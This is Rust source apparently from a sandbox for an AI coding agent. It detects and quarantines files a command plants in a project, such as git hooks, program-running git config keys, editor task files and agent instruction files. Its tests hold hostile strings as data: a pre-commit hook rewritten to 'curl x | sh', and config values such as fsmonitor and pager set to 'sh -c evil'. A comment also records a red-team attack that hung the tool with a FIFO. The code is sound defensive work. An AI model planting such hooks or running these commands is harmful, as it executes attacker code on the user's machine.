        let meta = std::fs::symlink_metadata(dir).ok();
        let changed = meta.as_ref().and_then(|m| m.created_or_changed());
        let ino = meta.as_ref().map(|m| m.ino()).unwrap_or_default();
        let entries: Vec<(OsString, std::fs::FileType)> = match listing::read_dir(dir) {
            Ok(entries) => entries
                .flatten()
                .filter_map(|e| Some((e.file_name(), e.file_type().ok()?)))
                .collect(),
            Err(_) => Vec::new(),
        };
        let at_top = dir == root;
        let root_git = root.join(".git");
        // Another directory moved to this path is a new one here.
        let before = self.seen.remove(dir).filter(|b| b.ino == ino);
        let held = |name: &OsString| before.as_ref().is_some_and(|b| b.vectors.contains(name));
        let the_commands = |path: &Path| {
            since.is_some_and(|since| {
                fresh
                    || std::fs::symlink_metadata(path)
                        .ok()
                        .and_then(|m| m.created_or_changed())
                        .is_some_and(|t| t >= since)
            })
        };
        let mut seen = Seen {
            changed,
            ino,
            vectors: Vec::new(),
            git_like: is_git_like(dir),
        };
        for (name, kind) in &entries {
            let path = dir.join(name);
            // At the top, `Before` has checks of its own (and binds, at the bwrap level).
            let vector = !at_top && is_anywhere_vector(name);
            if vector {
                seen.vectors.push(name.clone());
                if name == ".git" {
                    // A nested repository (or a `.git` file naming a git directory): judged
                    // when first seen; one git would have written is judged again after every
                    // command (`clean`), since its config and hooks change without its
                    // directory changing.
                    if !held(name) {
                        let why = untrusted_dot_git(&path, &root_git)
                            .or_else(|| the_commands(&path).then(|| unexplained(&path)).flatten());
                        match why {
                            Some(why) if the_commands(&path) => found.push((
                                path,
                                format!("a git directory git would not have written: {why}"),
                            )),
                            Some(_) => {}
                            None => {
                                self.clean.insert(path);
                            }
                        }
                    }
                } else if the_commands(&path) {
                    found.push((
                        path,
                        "which runs code or becomes instructions when an agent, editor or shell \
                         is started in that directory"
                            .to_string(),
                    ));
                }
                continue;
            }
            // A link the command made to a directory holding what an agent or git would read
            // there (into `node_modules`, which is not looked in, or outside the project).
            if kind.is_symlink() && since.is_some() && the_commands(&path) {
                if let Some(why) = linked_vectors(&path) {
                    found.push((path, why));
                }
                continue;
            }
            let skipped = at_top && (name == ".git" || name == ".gg");
            if !kind.is_dir() || skipped || UNWATCHED.iter().any(|u| name == *u) {
                continue;
            }
            if !self.seen.contains_key(&path) {
                if descend {
                    let fresh = the_commands(&path);
                    later.extend(self.read(root, &path, since, fresh, true, found));
                } else {
                    later.push(path);
                }
            }
        }
        // A directory that became a git directory under another name.
        let was_git_like = before.as_ref().is_some_and(|b| b.git_like);
        if seen.git_like && !at_top && !was_git_like {
            let why = untrusted_git_dir(dir, None, 0)
                .or_else(|| the_commands(dir).then(|| unexplained(dir)).flatten());
            match why {
                Some(why) if the_commands(dir) => found.push((
                    dir.to_path_buf(),
                    format!(
                        "a git directory under another name, which git would not have written: \
                         {why}"
                    ),
                )),
                Some(_) => {}
                None => {
                    self.clean.insert(dir.to_path_buf());
                }
            }
        }
        if !keep {
            return later;
        }
        // A directory seen for the first time is watched from now on; one that cannot be
        // (the user's inotify limit) ends watching: every directory is `stat`ed instead.
        #[cfg(target_os = "linux")]
        if before.is_none()
            && let Some(watch) = self.watch.as_mut()
            && !watch.add(dir)
        {
            self.watch = None;
        }
        self.seen.insert(dir.to_path_buf(), seen);
        later
    }

    /// The git directories that were clean when seen, judged again: one that now runs a program
    /// is returned (and forgotten). `report`: after a command (else the person's change
    /// between commands, which is left alone).
    fn judge_clean(&mut self, root: &Path, report: bool) -> Vec<(PathBuf, String)> {
        let mut found = Vec::new();
        let root_git = root.join(".git");
        self.clean.retain(|path| {
            let Ok(meta) = std::fs::symlink_metadata(path) else {
                return false;
            };
            let why = if path.file_name().is_some_and(|n| n == ".git") {
                untrusted_dot_git(path, &root_git)
            } else if meta.is_dir() {
                untrusted_git_dir(path, None, 0)
            } else {
                // A git directory under another name replaced by a file: nothing of git's.
                return false;
            };
            match why {
                None => true,
                Some(why) => {
                    if report {
                        found.push((
                            path.clone(),
                            format!(
                                "a git directory changed to one git would not have written: {why}"
                            ),
                        ));
                    }
                    false
                }
            }
        });
        found
    }

    /// The work tree's hooks directory (`sandbox::protected::hooks_dir`), kept for the
    /// session: asking git costs a process, and the setting changes only with `.git/config`,
    /// which is protected.
    fn hooks_path(&mut self, root: &Path) -> Option<PathBuf> {
        use std::os::unix::fs::MetadataExt;
        let stamp = std::fs::metadata(root.join(".git/config"))
            .ok()
            .map(|m| (m.ino() ^ m.len(), m.modified().ok()));
        match &self.hooks_path {
            Some((kept, path)) if *kept == stamp => path.clone(),
            _ => {
                let path = sandbox::protected::hooks_dir(root);
                self.hooks_path = Some((stamp, path.clone()));
                path
            }
        }
    }

    /// Whether inotify reports the changes (else every directory is `stat`ed).
    /// The entries protected anywhere that the picture holds below the top, relative to
    /// `root`, but `.git` (judged as a git directory) and `.gg`.
    fn vectors_below(&self, root: &Path) -> Vec<PathBuf> {
        self.seen
            .iter()
            .filter(|(dir, _)| dir.as_path() != root)
            .flat_map(|(dir, seen)| seen.vectors.iter().map(move |name| dir.join(name)))
            .filter(|path| {
                path.file_name()
                    .is_some_and(|name| name != ".git" && name != ".gg")
            })
            .filter_map(|path| path.strip_prefix(root).ok().map(Path::to_path_buf))
            .collect()
    }

    fn watching(&self) -> bool {
        #[cfg(target_os = "linux")]
        return self.watch.is_some();
        #[cfg(not(target_os = "linux"))]
        return false;
    }

    /// Forgets each of `dirs` and everything below it (removed or replaced by a file), in one
    /// pass: `rm -rf` of many kept directories reports each of them.
    fn forget(&mut self, dirs: Vec<PathBuf>) {
        if dirs.is_empty() {
            return;
        }
        let gone: std::collections::HashSet<PathBuf> = dirs.into_iter().collect();
        self.seen
            .retain(|p, _| !p.ancestors().any(|a| gone.contains(a)));
    }
}

/// The subdirectories of `dir` the sweep looks in (as [`ProjectDirs::read`] chooses them).
fn subdirectories(root: &Path, dir: &Path) -> Vec<PathBuf> {
    let at_top = dir == root;
    match listing::read_dir(dir) {
        Ok(entries) => entries
            .flatten()
            .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
            .map(|e| e.file_name())
            .filter(|name| {
                !is_anywhere_vector(name)
                    && !(at_top && (name == ".git" || name == ".gg"))
                    && !UNWATCHED.iter().any(|u| name == *u)
            })
            .map(|name| dir.join(name))
            .collect(),
        Err(_) => Vec::new(),
    }
}

/// Whether to watch with inotify. Always, where it can be set up; a test-hooks build can take
/// the fallback on purpose (`GG_TEST_SWEEP_NO_INOTIFY=1`), as when inotify's limits are reached,
/// so that the tests prove both ways of finding what a command changed.
#[cfg(target_os = "linux")]
fn inotify_wanted() -> bool {
    #[cfg(feature = "test-hooks")]
    if std::env::var_os("GG_TEST_SWEEP_NO_INOTIFY").is_some_and(|v| v == "1") {
        return false;
    }
    true
}

/// A name an agent, editor or git reads in whatever directory it is started in.
/// A class (`*.code-workspace`) counts by its ending, as the sandbox's list matches it.
fn is_anywhere_vector(name: &std::ffi::OsStr) -> bool {
    sandbox::protected::entry_named(name, false).is_some()
}

/// The protected entries of more than one name that exist in `root` and are no links (a link
/// is the pinned-links check's), with their identity.
fn nested_entries(root: &Path) -> Vec<(PathBuf, (u64, u64))> {
    sandbox::protected::placeholders(root)
        .filter(|path| {
            path.strip_prefix(root)
                .is_ok_and(|rel| rel.components().count() > 1)
        })
        .filter_map(|path| identity(&path).map(|id| (path, id)))
        .collect()
}

/// The device and inode `path` names (no link followed), `None` when absent or a link.
fn identity(path: &Path) -> Option<(u64, u64)> {
    std::fs::symlink_metadata(path)
        .ok()
        .filter(|meta| !meta.file_type().is_symlink())
        .map(|meta| identity_of(&meta))
}

/// The device and inode of what `meta` describes.
fn identity_of(meta: &std::fs::Metadata) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    (meta.dev(), meta.ino())
}

/// The names at the top of `root` of a protected class (`*.code-workspace`): no placeholder
/// stands for a class, so the sweep compares these names before and after a command.
fn names_of_class(root: &Path) -> Vec<OsString> {
    names(root)
        .into_iter()
        .filter(|name| sandbox::protected::of_a_class(name))
        .collect()
}

/// Why a link to a directory plants something: the directory holds a vector at its top, or is
/// a git directory.
fn linked_vectors(link: &Path) -> Option<String> {
    // Where it leads (`names` does not follow a link).
    let target = std::fs::canonicalize(link).ok()?;
    if let Some(name) = names(&target).into_iter().find(|n| is_anywhere_vector(n)) {
        return Some(format!(
            "a link to a directory holding {}, which runs code or becomes instructions when an \
             agent, editor or shell is started there",
            name.to_string_lossy()
        ));
    }
    is_git_like(&target).then(|| "a link to a git directory".to_string())
}

/// What git takes for a git directory (its `is_git_directory`): `HEAD`, with `objects` and
/// `refs` beside it or in the directory a `commondir` file names (whose config git then obeys).
/// A `commondir` counts whatever it names: deny by default.
fn is_git_like(dir: &Path) -> bool {
    sandbox::protected::is_git_dir_layout(|name| std::fs::symlink_metadata(dir.join(name)).is_ok())
}

/// The change time of a file: what a program cannot set (unlike the modification time).
trait ChangeTime {
    fn created_or_changed(&self) -> Option<SystemTime>;
}

impl ChangeTime for std::fs::Metadata {
    fn created_or_changed(&self) -> Option<SystemTime> {
        use std::os::unix::fs::MetadataExt;
        let secs = u64::try_from(self.ctime()).ok()?;
        let nanos = u32::try_from(self.ctime_nsec()).ok()?;
        SystemTime::UNIX_EPOCH.checked_add(Duration::new(secs, nanos))
    }
}

/// Why a `.git` below the top makes a repository git would not have written: a directory is
/// judged as one; a file is a pointer (`gitdir: <dir>`, as a submodule's checkout or a linked
/// worktree has) and the git directory it names is judged, wherever it is (in `node_modules`,
/// which is not looked in, or outside the project). `root_git`: the project's git directory,
/// which [`Before`] judges.
fn untrusted_dot_git(path: &Path, root_git: &Path) -> Option<String> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if meta.is_dir() {
        return untrusted_git_dir(path, None, 0);
    }
    if !meta.is_file() {
        return Some("not a directory".into());
    }
    let Some(named) = pointed_git_dir(path) else {
        return Some("a .git file that names no git directory".into());
    };
    if same_dir(&named, root_git) {
        return None;
    }
    let why = match common_dir(&named) {
        // A worktree of the project's own repository.
        Some(common) if same_dir(&common, root_git) => untrusted_git_dir(&named, Some(root_git), 0),
        // A worktree of another repository: that repository is judged, its worktrees with it.
        Some(common)
            if named.parent().is_some_and(|p| {
                p.file_name().is_some_and(|n| n == "worktrees")
                    && p.parent().is_some_and(|c| same_dir(c, &common))
            }) =>
        {
            untrusted_git_dir(&common, None, 0)
        }
        _ => untrusted_git_dir(&named, None, 0),
    };
    why.map(|why| format!("it names {}, where {why}", named.display()))
}

/// The directory a `.git` file names (`gitdir: <path>`, relative to the file's directory).
fn pointed_git_dir(file: &Path) -> Option<PathBuf> {
    let text = read_text(file)?;
    let named = text.strip_prefix("gitdir:")?.trim();
    if named.is_empty() {
        return None;
    }
    Some(file.parent()?.join(named))
}

/// The directory a git directory's `commondir` file names, where git takes its objects, refs,
/// config and hooks from. `None` when it is not a regular file (a FIFO, a link), which callers
/// count as naming somewhere untrusted.
fn common_dir(dir: &Path) -> Option<PathBuf> {
    let text = read_text(&dir.join("commondir"))?;
    let named = text.trim_end_matches(['\n', '\r']);
    (!named.is_empty()).then(|| dir.join(named))
}

/// Whether two paths are the same directory (both resolved).
fn same_dir(a: &Path, b: &Path) -> bool {
    match (std::fs::canonicalize(a), std::fs::canonicalize(b)) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    }
}

/// Why `dir`, a git directory a command created, is not one git would have written (`None`
/// when it is). `main`: the git directory a worktree's `commondir` may name (judged on its
/// own); any other `commondir` is one git would not have written.
fn untrusted_git_dir(dir: &Path, main: Option<&Path>, depth: usize) -> Option<String> {
    if depth > 8 {
        return Some("git directories nested too deep".into());
    }
    let Ok(meta) = std::fs::symlink_metadata(dir) else {
        return None;
    };
    if !meta.is_dir() {
        return Some("not a directory".into());
    }
    // A submodule named `a/b` keeps its git directory at `modules/a/b`: `a` is only a folder.
    let is_git_dir = ["HEAD", "config", "commondir"]
        .iter()
        .any(|n| std::fs::symlink_metadata(dir.join(n)).is_ok());
    if !is_git_dir {
        return names(dir)
            .into_iter()
            .find_map(|n| untrusted_git_dir(&dir.join(n), main, depth + 1));
    }
    if let Some(why) = runs_programs(dir) {
        return Some(why);
    }
    if std::fs::symlink_metadata(dir.join("commondir")).is_ok() {
        let common = common_dir(dir);
        let own = common
            .as_deref()
            .zip(main)
            .is_some_and(|(common, main)| same_dir(common, main));
        if !own {
            // What git obeys there (`docs/HEAD` + `docs/commondir` naming `docs/_c`, whose
            // config sets `extensions.worktreeConfig`, and `docs/config.worktree`), said when
            // that is why.
            if let Some(why) = common.as_deref().and_then(runs_programs) {
                return Some(format!("the directory its commondir names: {why}"));
            }
            return Some("it takes its repository from elsewhere (commondir)".into());
        }
    }
    names(&dir.join("modules"))
        .into_iter()
        .find_map(|n| untrusted_git_dir(&dir.join("modules").join(n), None, depth + 1))
        .or_else(|| {
            names(&dir.join("worktrees")).into_iter().find_map(|n| {
                untrusted_git_dir(&dir.join("worktrees").join(n), Some(dir), depth + 1)
            })
        })
}

/// A repository the command made, judged by what git writes (deny by default): a key in its
/// `config` or `config.worktree` that `git init`, `clone`, `submodule` or `worktree` (or a test
/// script's usual set-up, `user.name` and the like) would not have written
/// (`GitConfig::keys_git_would_not_write`), so a key that runs a program and is missing from
/// the classifier's table still counts. `path`: the git directory, or a `.git` directory. The
/// person's own repositories are judged by what they run (`runs_programs`) instead: an unusual
/// key of theirs is theirs.
fn unexplained(path: &Path) -> Option<String> {
    if !std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()) {
        return None;
    }
    let mut files = Vec::new();
    for name in ["config", "config.worktree"] {
        match read_regular(&path.join(name), false) {
            Ok(Some(bytes)) => files.push(String::from_utf8_lossy(&bytes).into_owned()),
            Ok(None) => {}
            // git writes a regular file; a link (whose target can change after this check)
            // or a FIFO (which blocks whoever opens it) is not one it wrote.
            Err(what) => return Some(format!("its {name} is {what}")),
        }
    }
    classifier::GitConfig { files }
        .keys_git_would_not_write()
        .first()
        .map(|key| format!("its configuration has a key git would not have written ({key})"))
}

/// Why git run with `dir` as its git directory (or as the common directory another names)
/// would run a program: an include (git writes none; one names a file elsewhere, the work tree
/// included, whose text a later command can change after this check), a key of the
/// classifier's table in `config` or `config.worktree` (includes followed, an unreadable one
/// counting), a hook but git's `*.sample` templates.
fn runs_programs(dir: &Path) -> Option<String> {
    // A config or config.worktree that is not a regular file counts, as an include does: a
    // link's target can change after this check, and a FIFO blocks git (and this process).
    let mut texts = Vec::new();
    for name in ["config", "config.worktree"] {
        match read_regular(&dir.join(name), false) {
            Ok(bytes) => {
                texts.push(String::from_utf8_lossy(&bytes.unwrap_or_default()).into_owned())
            }
            Err(what) => return Some(format!("its {name} is {what}")),
        }
    }
    let includes = texts[0]
        .lines()
        .any(|l| l.trim_start().to_ascii_lowercase().starts_with("[include"));
    if includes {
        return Some("its configuration includes another file".into());
    }
    // `config` was read above and has no include, so this reads it alone, again without
    // following a link or blocking.
    let config = classifier::GitConfig::load_with(dir, read_text);
    let mut programs = config.program_keys();
    programs.extend(
        classifier::GitConfig {
            files: vec![texts[1].clone()],
        }
        .program_keys(),
    );
    if let Some(key) = programs.first() {
        return Some(format!("its configuration runs a program ({key})"));
    }
    names(&dir.join("hooks"))
        .into_iter()
        .find(|n| !n.to_str().is_some_and(|n| n.ends_with(".sample")))
        .map(|hook| format!("it has a hook ({})", hook.to_string_lossy()))
}

/// The names directly inside `dir` (none when it is not a directory).
fn names(dir: &Path) -> Vec<OsString> {
    match std::fs::symlink_metadata(dir) {
        Ok(meta) if meta.is_dir() => listing::read_dir(dir)
            .map(|entries| entries.flatten().map(|e| e.file_name()).collect())
            .unwrap_or_default(),
        _ => Vec::new(),
    }
}

/// Moves each of `paths` (absent before the command) that exists now into
/// `.gg/quarantine/<time>-<name>`, out of reach of whatever opens the project, and says so with
/// its reason. `.gg` is read-only to commands at the bwrap level, so they cannot take it back.
/// Where the quarantine cannot be used safely, what was planted is deleted instead
/// ([`set_aside`]).
fn quarantine(root: &Path, paths: &[(PathBuf, String)]) -> Vec<String> {
    let mut lines = Vec::new();
    for (path, why) in paths {
        if std::fs::symlink_metadata(path).is_err() {
            continue;
        }
        let name = path
            .strip_prefix(root)
            .unwrap_or(path)
            .display()
            .to_string();
        lines.push(match set_aside(root, path) {
            Ok((_, aside)) => format!("[gg: the command created {name}, {why}; {}]", aside.done()),
            Err(e) => format!(
                "[gg: the command created {name}, {why}, and it could not be moved aside ({e}): \
                 remove it before opening the project]"
            ),
        });
    }
    lines
}

/// Where [`set_aside`] put what the command left.
enum Aside {
    /// Moved into `.gg/quarantine`, under this name.
    Quarantined(PathBuf),
    /// Deleted, because the quarantine could not be used (why).
    Deleted(String),
}

impl Aside {
    fn done(&self) -> String {
        match self {
            Aside::Quarantined(target) => format!("moved to {}", target.display()),
            Aside::Deleted(refused) => format!("deleted, not kept ({refused})"),
        }
    }
}

/// A name in a directory of the project, the directory opened without following any link.
struct Spot {
    dir: OwnedFd,
    name: OsString,
}

/// Takes what the command left at `path` out of the project: moved (`renameat`, between
/// descriptors) into `.gg/quarantine/<time>-<flat path>`, or deleted where that cannot be done
/// safely. gg does this from its own unconfined process, so no path is followed as a string:
/// `.gg` and `quarantine` are opened beneath the project with no link followed on the way
/// (`RESOLVE_BENEATH|RESOLVE_NO_SYMLINKS`, as the memory store opens `.gg/memory`) and made
/// with `mkdirat` where missing; `path`'s directory is opened one component at a time with
/// `O_NOFOLLOW`. A link at `.gg` or `.gg/quarantine` (made by a command at the landlock level,
/// which has no carve-out for `.gg`, or committed in a cloned repository) would otherwise send
/// the command's file into `~/.bashrc.d` or `~/.config/autostart`.
///
/// When the quarantine is a link or no directory, or the move fails (another file system),
/// the planted file is deleted: leaving it where it was is what the sweep exists to prevent,
/// and any other place gg could move it to is either in reach of the next command or on
/// another file system, where moving means copying a tree the command shaped. The person is
/// told, and a link at `.gg` is itself what an attack plants (gg never makes one).
fn set_aside(root: &Path, path: &Path) -> Result<(Spot, Aside), String> {
    let spot = open_spot(root, path)?;
    let ws = crate::paths::Workspace::open(root).map_err(|e| e.to_string())?;
    let refused = match quarantine_dir(&ws) {
        Ok(dir) => {
            // `.git/commondir` is named as such, and kept as `…-.git_commondir`.
            let flat = path
                .strip_prefix(root)
                .unwrap_or(path)
                .display()
                .to_string()
                .replace('/', "_");
            let stamp = SystemTime::now()
                .duration_since(SystemTime::UNIX_EPOCH)
                .map(|d| d.as_nanos())
                .unwrap_or_default();
            let target = format!("{stamp}-{flat}");
            match rustix::fs::renameat(&spot.dir, &spot.name, &dir, &target) {
                Ok(()) => {
                    let shown = root.join(".gg").join("quarantine").join(target);
                    return Ok((spot, Aside::Quarantined(shown)));
                }
                Err(e) => format!("it could not be moved to .gg/quarantine: {e}"),
            }
        }
        Err(refused) => refused,
    };
    remove_tree(&spot.dir, &spot.name, 0)
        .map_err(|e| format!("{refused}; deleting it failed too: {e}"))?;
    Ok((spot, Aside::Deleted(refused)))
}

/// `.gg/quarantine` beneath the project, made (mode 0700) where missing, with no link followed;
/// why not when it is a link or not a directory.
fn quarantine_dir(ws: &crate::paths::Workspace) -> Result<OwnedFd, String> {
    use crate::paths::PathError;
    let refused = |e: PathError| match e {
        PathError::Outside(_) => {
            ".gg or .gg/quarantine is a symbolic link, which gg does not follow: remove it"
                .to_string()
        }
        PathError::Io { error, .. }
            if error.raw_os_error() == Some(rustix::io::Errno::NOTDIR.raw_os_error()) =>
        {
            ".gg or .gg/quarantine is not a directory".to_string()
        }
        e => format!(".gg/quarantine cannot be used: {e}"),
    };
    let confined = ws.confine(".gg/quarantine").map_err(refused)?;
    ws.open_dir_strict(&confined, Some(0o700))
        .map_err(refused)?
        .ok_or_else(|| ".gg/quarantine could not be made".to_string())
}

/// The directory holding `path` (below `root`), opened one component at a time from the
/// project's root with `O_NOFOLLOW`, and `path`'s name in it. Where a link lies on the way (a
/// `.git/hooks` that is one, listed through it as git does), the directory is told by where it
/// really is, which must be inside the project, and that is walked the same way.
fn open_spot(root: &Path, path: &Path) -> Result<Spot, String> {
    use rustix::fs::{Mode, OFlags};
    let outside = || "it is not inside the project".to_string();
    let name = path.file_name().ok_or_else(outside)?.to_os_string();
    let parent = path.parent().ok_or_else(outside)?;
    let given = root;
    let root = std::fs::canonicalize(root).map_err(|e| e.to_string())?;
    let walk = |relative: &Path| -> rustix::io::Result<OwnedFd> {
        let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
        let mut dir = rustix::fs::open(&root, flags, Mode::empty())?;
        for component in relative.components() {
            match component {
                std::path::Component::Normal(part) => {
                    dir = rustix::fs::openat(&dir, part, flags, Mode::empty())?;
                }
                std::path::Component::CurDir => {}
                _ => return Err(rustix::io::Errno::XDEV),
            }
        }
        Ok(dir)
    };
    let lexical = parent
        .strip_prefix(given)
        .or_else(|_| parent.strip_prefix(&root))
        .ok()
        .map(walk);
    let dir = match lexical {
        Some(Ok(dir)) => dir,
        Some(Err(e)) if e != rustix::io::Errno::LOOP && e != rustix::io::Errno::NOTDIR => {
            return Err(std::io::Error::from(e).to_string());
        }
        // A link on the way (or a root named otherwise): where the directory really is.
        _ => {
            let real = std::fs::canonicalize(parent).map_err(|e| e.to_string())?;
            let relative = real.strip_prefix(&root).map_err(|_| outside())?;
            walk(relative).map_err(|e| std::io::Error::from(e).to_string())?
        }
    };
    Ok(Spot { dir, name })
}

/// Deletes `name` in `dir`, a directory with everything in it, never following a link (a link
/// is removed as itself). Nested at most [`MAX_DEPTH`] deep.
fn remove_tree(dir: &OwnedFd, name: &OsStr, depth: usize) -> std::io::Result<()> {
    use rustix::fs::{AtFlags, FileType, Mode, OFlags};
    use std::os::unix::ffi::OsStrExt;
    const MAX_DEPTH: usize = 256;
    let stat = rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW)?;
    if FileType::from_raw_mode(stat.st_mode) != FileType::Directory {
        return Ok(rustix::fs::unlinkat(dir, name, AtFlags::empty())?);
    }
    if depth >= MAX_DEPTH {
        return Err(std::io::Error::other("nested too deep"));
    }
    let inner = rustix::fs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    let mut names = Vec::new();
    for entry in rustix::fs::Dir::read_from(&inner)? {
        let entry = entry?;
        let entry_name = entry.file_name().to_bytes();
        if entry_name != b"." && entry_name != b".." {
            names.push(OsStr::from_bytes(entry_name).to_os_string());
        }
    }
    for entry_name in names {
        remove_tree(&inner, &entry_name, depth + 1)?;
    }
    Ok(rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)?)
}

/// A file that a command may have made, read so that it can neither hang nor flood the sweep:
/// a FIFO with no writer blocks `open` for good, and the sweep runs after the command has ended,
/// so no timeout covers it (an attacker pass left `z/config` a FIFO and the run hung). Only a
/// regular file of at most [`MAX_KEPT`] bytes is read ([`sandbox::protected::read_regular`],
/// following a link only if `follow`). `Ok(None)`: absent; `Err`: what it is instead, for the
/// caller to count against it (fail closed).
fn read_regular(path: &Path, follow: bool) -> Result<Option<Vec<u8>>, String> {
    use sandbox::protected::{LastLink, Unreadable};
    let links = if follow {
        LastLink::Follow
    } else {
        LastLink::Refuse
    };
    match sandbox::protected::read_regular(path, MAX_KEPT, links) {
        Ok(bytes) => Ok(Some(bytes)),
        Err(Unreadable::Absent(_)) => Ok(None),
        Err(Unreadable::NotRegular(kind)) => Err(kind.to_string()),
        Err(Unreadable::TooLarge(_)) => Err("larger than git writes".to_string()),
        Err(Unreadable::Failed(e)) => Err(format!("unreadable ({e})")),
    }
}

/// [`read_regular`] without following a link, as text (`None`: absent, or not a regular file).
fn read_text(path: &Path) -> Option<String> {
    read_regular(path, false)
        .ok()
        .flatten()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    const PERSONS: &str = "[core]\n\trepositoryformatversion = 0\n\tpager = less\n\
                           [remote \"origin\"]\n\turl = https://example.invalid/x.git\n";

    #[test]
    fn what_git_writes_is_not_an_added_program() {
        // `git branch -u`, `git config user.name`: the person's pager does not count.
        let now = format!("{PERSONS}[branch \"main\"]\n\tremote = origin\n[user]\n\tname = x\n");
        assert_eq!(added_program(PERSONS, &now), None);
        assert_eq!(added_program(PERSONS, PERSONS), None);
    }

    #[test]
    fn an_added_or_changed_program_or_include_counts() {
        for now in [
            format!("{PERSONS}[core]\n\tfsmonitor = \"touch /tmp/x; false\"\n"),
            PERSONS.replace("pager = less", "pager = sh -c evil"),
            // Under the section the command left last.
            PERSONS.replace("[remote \"origin\"]\n", "") + "\thooksPath = .h\n",
            format!("{PERSONS}[core] editor = evil\n"),
            format!("{PERSONS}[alias]\n\tx = \\\n!sh -c evil\n"),
            format!("{PERSONS}[includeIf \"gitdir:/\"]\n\tpath = ../inc\n"),
        ] {
            assert!(added_program(PERSONS, &now).is_some(), "{now}");
        }
    }

    /// Where `.gg/quarantine` is a link, a planted directory is deleted, and a link inside it
    /// is removed as itself: what it names (outside the project) is untouched. A FIFO is read
    /// as what it is, without blocking.
    #[test]
    fn a_linked_quarantine_is_refused_and_deletion_follows_no_link() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("p");
        let outside = tmp.path().join("outside");
        std::fs::create_dir_all(root.join(".gg")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("keep"), "the person's").unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".gg/quarantine")).unwrap();
        let planted = root.join("sub/.vscode");
        std::fs::create_dir_all(planted.join("deep")).unwrap();
        std::fs::write(planted.join("deep/tasks.json"), "{}").unwrap();
        std::os::unix::fs::symlink(&outside, planted.join("deep/l")).unwrap();
        let lines = quarantine(&root, &[(planted.clone(), "why".into())]);
        assert!(lines[0].contains("symbolic link"), "{lines:?}");
        assert!(std::fs::symlink_metadata(&planted).is_err(), "{lines:?}");
        assert!(root.join("sub").is_dir());
        assert_eq!(
            std::fs::read_to_string(outside.join("keep")).unwrap(),
            "the person's"
        );
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1);

        let fifo = root.join("fifo");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            &fifo,
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
        assert_eq!(read_regular(&fifo, true), Err("a FIFO".to_string()));
        assert_eq!(read_regular(&root.join("absent"), false), Ok(None));
    }

    /// The copy of `.gg` taken from the last command's keeps only what has not changed since:
    /// a file rewritten between commands (same size, by gg's own tools or the person) is read
    /// again, so what is put back after the next command is its new text.
    /// A typical project: other agents' instructions, an editor's settings and husky's hooks.
    fn typical_project(root: &Path) {
        std::fs::write(
            root.join("AGENTS.md"),
            "the person's instructions\n".repeat(40),
        )
        .unwrap();
        std::fs::create_dir_all(root.join(".vscode")).unwrap();
        for name in [
            "settings.json",
            "tasks.json",
            "extensions.json",
            "launch.json",
        ] {
            std::fs::write(root.join(".vscode").join(name), "{}\n".repeat(30)).unwrap();
        }
        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
        for hook in ["pre-commit", "commit-msg", "pre-push"] {
            std::fs::write(root.join(".husky").join(hook), "npx lint-staged\n").unwrap();
            std::fs::write(
                root.join(".husky/_").join(hook),
                ". \"$(dirname \"$0\")/h\"\n",
            )
            .unwrap();
        }
        std::fs::write(root.join(".husky/_/h"), "#!/usr/bin/env sh\n".repeat(20)).unwrap();
        std::fs::write(root.join("README.md"), "not protected").unwrap();
    }

    #[test]
    fn existing_protected_entries_are_kept_and_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        typical_project(root);
        let kept = Kept::look_protected(root, Vec::new(), Vec::new()).unwrap();
        let names: Vec<&Path> = kept.iter().map(|k| k.rel.as_path()).collect();
        assert_eq!(names.len(), 3, "{names:?}");
        for kept in &kept {
            assert!(kept.sweep(root).is_empty());
        }
        // Unchanged since the last copy: taken from it, and still nothing to put back.
        let kept = Kept::look_protected(root, kept, Vec::new()).unwrap();
        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
        std::fs::remove_file(root.join("AGENTS.md")).unwrap();
        std::fs::write(root.join(".vscode/new.json"), "{}").unwrap();
        let lines: Vec<String> = kept.iter().flat_map(|k| k.sweep(root)).collect();
        assert_eq!(lines.len(), 3, "{lines:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".husky/pre-commit")).unwrap(),
            "npx lint-staged\n"
        );
        assert!(root.join("AGENTS.md").is_file());
        assert!(!root.join(".vscode/new.json").exists());
    }

    /// What keeping the protected entries costs a command at the landlock level in a typical
    /// project (the copy taken from the last one, then the comparison after it):
    /// `cargo test -p tools --release -- --ignored --nocapture protected_keeping_cost`.
    #[test]
    #[ignore = "a measurement, not a check"]
    fn protected_keeping_cost() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        typical_project(root);
        let mut kept = Kept::look_protected(root, Vec::new(), Vec::new()).unwrap();
        const ROUNDS: u32 = 2_000;
        let start = std::time::Instant::now();
        for _ in 0..ROUNDS {
            kept = Kept::look_protected(root, kept, Vec::new()).unwrap();
            for entry in &kept {
                assert!(entry.sweep(root).is_empty());
            }
        }
        eprintln!(
            "keeping the protected entries: {:?} per command",
            start.elapsed() / ROUNDS
        );
    }

    #[test]
    fn the_kept_gg_is_read_again_where_it_changed() {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path();
        std::fs::create_dir_all(root.join(".gg/memory")).unwrap();
        std::fs::write(root.join(".gg/memory/MEMORY.md"), "first").unwrap();
        let kept = Kept::look(root, None).unwrap();
        assert!(kept.sweep(root).is_empty());
